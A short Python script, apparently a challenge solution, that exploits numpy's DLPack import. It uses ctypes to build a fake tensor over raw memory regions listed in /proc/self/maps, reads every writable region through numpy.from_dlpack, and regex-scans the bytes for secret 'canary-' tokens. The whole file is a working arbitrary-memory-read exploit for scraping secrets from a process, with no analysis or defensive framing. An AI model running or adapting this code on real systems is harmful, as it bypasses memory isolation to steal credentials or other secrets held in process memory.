"""A DLPack capsule is a bare pointer with a shape that nobody checks."""
import ctypes
import re
import numpy as np
class Tensor(ctypes.Structure):
    _fields_ = [("data", ctypes.c_void_p), ("kind", ctypes.c_int), ("id", ctypes.c_int), ("ndim", ctypes.c_int), ("code", ctypes.c_ubyte), ("bits", ctypes.c_ubyte), ("lanes", ctypes.c_ushort), ("shape", ctypes.POINTER(ctypes.c_int64)), ("strides", ctypes.c_void_p), ("offset", ctypes.c_uint64), ("context", ctypes.c_void_p), ("deleter", ctypes.c_void_p)]
new = ctypes.pythonapi.PyCapsule_New
new.restype = ctypes.py_object
kept = []
class Holder:
    def __init__(self, start, size):
        self.shape = (ctypes.c_int64 * 1)(size)
        self.tensor = Tensor(start, 1, 0, 1, 1, 8, 1, self.shape, None, 0, None, None)
        kept.append(self)
    def __dlpack__(self, **options):
        return new(ctypes.c_void_p(ctypes.addressof(self.tensor)), b"dltensor", None)
    def __dlpack_device__(self):
        return 1, 0
for line in open("/proc/self/maps"):
    start, end = (int(x, 16) for x in line.split()[0].split("-"))
    if "rw-p" in line and end - start < 1 << 26:
        print(*set(re.findall(rb"canary-[0-9a-f]{16}", np.from_dlpack(Holder(start, end - start)).tobytes())))
